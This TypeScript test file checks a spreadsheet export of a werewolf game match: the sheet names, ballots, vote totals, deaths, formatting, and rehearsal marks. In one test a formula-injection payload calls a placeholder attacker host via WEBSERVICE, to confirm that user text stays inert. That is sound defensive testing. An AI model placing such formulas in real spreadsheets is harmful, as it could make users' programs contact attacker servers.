import ExcelJS from 'exceljs'
import readXlsx from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { BEAT, gives, HOSTILE, played, recorded, small, told, twelve } from './support.ts'

/**
 * The workbook as users' programs read it: with two readers that have nothing to do with each other. The figures are
 * worked out by hand from test/scenarios/match-12.yaml.
 */

type Rows = readonly (readonly unknown[])[]
type Sheets = Readonly<Record<string, Rows>>

async function readBoth(file: string | Buffer): Promise<{ book: ExcelJS.Workbook; sheets: Sheets }> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(file as never)
  const sheets = await readXlsx(file as Buffer)
  return { book, sheets: Object.fromEntries(sheets.map(({ sheet, data }) => [sheet, data as Rows])) }
}

const NAMES = ['阿明', '小雨', '老张', '可可', '大熊', '七七', '小白', '阿强', '山山', '果果', '阿九', '十二']
const { book, sheets } = await readBoth(await told(recorded(twelve(NAMES)), 'sheet', 'zh-Hans'))
/** A moment of the match as the wall clock in Shanghai showed it; Excel knows no zones. */
const wall = (row: number): Date => new Date(Date.UTC(2026, 0, 31, 14) + (row - 1) * BEAT)
const body = (name: string): Rows => (sheets[name] ?? []).slice(1).map((row) => row.map(rounded))
/** A day is a number to Excel, and half a minute of it no round one: readers lose a millisecond. */
const rounded = (cell: unknown): unknown =>
  cell instanceof Date ? new Date(Math.round(cell.getTime() / 1000) * 1000) : cell
/** A length of time as programs show it, counted from the day that Excel calls 0. */
const lasting = (seconds: number): Date => new Date(Date.UTC(1899, 11, 30) + seconds * 1000)

describe('what a spreadsheet program reads', () => {
  test('has the sheets in their order', () => {
    const names = [
      '概览',
      '座位与身份',
      '夜间行动',
      '投票',
      '票单',
      '计票',
      '发言用时',
      '死亡与死因',
      '违规与裁定',
      '规则设定',
      '日志',
    ]
    expect(Object.keys(sheets)).toEqual(names)
    expect(book.worksheets.map((sheet) => sheet.name)).toEqual(names)
  })

  test('says who won, when it was, and the fingerprint', () => {
    const facts = Object.fromEntries(body('概览').map(([item, value]) => [item, value]))
    expect(facts).toMatchObject({
      比赛: '周六杯 第一场',
      结果: '好人阵营',
      规则: 'WIN-01',
      开始: wall(3),
      结束: wall(63),
      夜数: 3,
      天数: 3,
      警长: 2,
      时区: 'Asia/Shanghai',
      日志行数: 63,
    })
    expect(facts['时长']).toEqual(lasting(30 * 60))
    expect(facts['指纹']).toMatch(/^[0-9a-f]{64}$/)
  })

  test('has the ballots as numbers, voter by voter', () => {
    const [head, ...rows] = sheets['投票'] ?? []
    expect(head).toEqual([
      '座位',
      '姓名',
      '1 · 第1天 · 警长投票',
      '2 · 第1天 · 放逐投票',
      '3 · 第2天 · 放逐投票',
    ])
    expect(rows.map(([seat, , ...votes]) => [seat, ...votes])).toEqual([
      [1, null, 9, null],
      [2, 1, 9, 11],
      [3, 1, 9, 11],
      [4, 1, 9, 11],
      [5, 1, 9, 11],
      [6, null, 9, 12],
      [7, 9, 1, 11],
      [8, 1, 9, 11],
      [9, null, 1, null],
      [10, null, 1, null],
      [11, 9, 1, 6],
      [12, 9, 1, 6],
    ])
  })

  test('has every vote with its weight, and the totals', () => {
    const votes = body('票单')
    expect(votes).toHaveLength(8 + 12 + 9)
    expect(votes.find(([no, , , voter]) => no === 2 && voter === 1)).toEqual([
      2,
      1,
      '放逐投票',
      1,
      '阿明',
      9,
      '山山',
      1.5,
    ])
    const totals = body('计票').map((row) => [row[0], row[4], row[6], row[8]])
    expect(totals).toEqual([
      [1, 9, 3, null],
      [1, 1, 5, '最高票'],
      [2, 1, 5, null],
      [2, 9, 7.5, '最高票'],
      [3, 12, 1, null],
      [3, 6, 2, null],
      [3, 11, 6.5, '最高票'],
    ])
  })

  test('has the deaths with their causes', () => {
    expect(body('死亡与死因').map((row) => row.slice(0, 8))).toEqual([
      [wall(31), 9, '山山', '狼人', '第1天', '放逐', '放逐', 'VOTE-05'],
      [wall(39), 1, '阿明', '预言家', '第2夜', '狼刀', '夜间出局', 'WOLF-02'],
      [wall(39), 10, '果果', '狼人', '第2夜', '毒杀', '夜间出局', 'WITCH-07'],
      [wall(53), 11, '阿九', '狼人', '第2天', '放逐', '放逐', 'VOTE-05'],
      [wall(61), 3, '老张', '猎人', '第3夜', '狼刀', '夜间出局', 'WOLF-02'],
      [wall(63), 12, '十二', '狼人', '第3夜', '枪杀', '枪杀', 'HUNTER-04'],
    ])
  })

  test('has seats, nights and speeches', () => {
    const first = body('座位与身份')[0] ?? []
    expect(first.slice(0, 10)).toEqual([
      1,
      '阿明',
      '预言家',
      '预言家',
      '好人阵营',
      '出局',
      '第2夜',
      '狼刀',
      'WOLF-02',
      2,
    ])
    expect(first[10]).toEqual(lasting(90))
    const night = body('夜间行动').filter(([no]) => no === 2)
    expect(night.map(([, , call, what]) => [call, what])).toEqual([
      ['守卫', '守卫守2号'],
      ['狼人', '狼人刀1号'],
      ['女巫', '女巫毒10号'],
      ['预言家', '预言家验11号：狼人'],
      ['猎人', null],
      ['天亮结算', expect.stringContaining('1号')],
      ['天亮结算', expect.stringContaining('10号')],
    ])
    expect(body('发言用时')).toHaveLength(26)
    expect(body('发言用时')[0]?.slice(2, 6)).toEqual([1, '警上发言', 1, '阿明'])
  })

  test('has the house rules that were played by', () => {
    expect(body('规则设定')).toContainEqual(['警长票数', '1.5票（网杀、PandaKill）'])
    // House rules of cards that nobody held would only be read for nothing.
    const named = body('规则设定').map(([item]) => item)
    expect(named).toContain('女巫自救')
    expect(named).not.toContain('骑士在警长竞选中决斗')
  })

  test('has the whole journal', () => {
    const rows = body('日志')
    expect(rows.map(([seq]) => seq)).toEqual(Array.from({ length: 63 }, (_, i) => i + 1))
    expect(rows[62]?.slice(1, 4)).toEqual([wall(63), '法官', '录入'])
    expect(String(rows[62]?.[4])).toBe('{"act":"shoot","answer":{"seats":[12]}}')
  })
})

describe('how it looks', () => {
  test('the first row stays in place, can be filtered and is repeated in print; columns are wide enough', () => {
    for (const sheet of book.worksheets) {
      expect([sheet.name, sheet.views[0]]).toMatchObject([sheet.name, { state: 'frozen', ySplit: 1 }])
      expect(sheet.autoFilter).toBeTruthy()
      expect(sheet.pageSetup).toMatchObject({ paperSize: 9, fitToWidth: 1, printTitlesRow: '1:1' })
      sheet.getRow(1).eachCell((cell, column) => {
        const wide = [...String(cell.value)].reduce((sum, char) => sum + (char > '\u2e80' ? 2 : 1), 0)
        expect([cell.value, (sheet.getColumn(column).width ?? 0) >= wide * 0.9]).toEqual([cell.value, true])
      })
    }
  })

  test('moments and lengths are dates and times to the program, not texts', () => {
    const speeches = book.getWorksheet('发言用时')
    expect(speeches?.getCell('A2').type).toBe(ExcelJS.ValueType.Date)
    expect(speeches?.getCell('A2').numFmt).toBe('yyyy-mm-dd hh:mm:ss')
    expect(speeches?.getCell('G2').numFmt).toBe('[h]:mm:ss')
    expect(speeches?.getCell('E2').type).toBe(ExcelJS.ValueType.Number)
  })
})

describe('names and words from people', () => {
  test('stay texts to the letter, whatever they look like', async () => {
    const made = played(small('  - wolves: 3\n  - to: speech\n'), HOSTILE.slice(0, 6))
    gives(made.match, { kind: 'note', text: '=WEBSERVICE("http://evil.example")' })
    const file = await told(recorded(made, { title: '=2+2 <&> "quoted"' }), 'sheet', 'en')
    const { book: read, sheets: again } = await readBoth(file)
    expect(again['Seats and cards']?.slice(1).map(([, name]) => name)).toEqual(HOSTILE.slice(0, 6))
    expect(again['Overview']?.[1]?.[1]).toBe('=2+2 <&> "quoted"')
    expect(JSON.stringify(again['Incidents and rulings'])).toContain('=WEBSERVICE')
    for (const sheet of read.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect([ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink]).not.toContain(cell.type)
          // A cell of text stays one when somebody edits it.
          if (typeof cell.value === 'string' && row.number > 1) expect(cell.numFmt).toBe('@')
        }),
      )
  })

  test('may hold what XML forbids, and more than a cell takes', async () => {
    const made = played(small('  - wolves: 3\n  - to: speech\n'))
    gives(made.match, { kind: 'note', text: `\u0000\u000b\ud800 ${'长'.repeat(40_000)}` })
    const { sheets: read } = await readBoth(await told(recorded(made), 'sheet', 'en'))
    const text = String(read['Incidents and rulings']?.[1]?.[3])
    expect(text).toHaveLength(32_767)
    expect(text.endsWith('…')).toBe(true)
  })
})

test.each([
  ['zh-Hans', '彩排'],
  ['zh-Hant', '彩排'],
  ['en', 'Rehearsal'],
] as const)('a rehearsal says so in %s, first of all and on each printed sheet', async (locale, mark) => {
  const { book: read, sheets: own } = await readBoth(
    await told(recorded(twelve(), { rehearsal: true }), 'sheet', locale),
  )
  expect(Object.values(own)[0]?.[2]?.[0]).toBe(mark)
  for (const sheet of read.worksheets) expect(sheet.headerFooter.oddHeader).toBe(`&L${mark}`)
  const plain = await readBoth(await told(recorded(twelve()), 'sheet', locale))
  expect(JSON.stringify(plain.sheets)).not.toContain(mark)
})
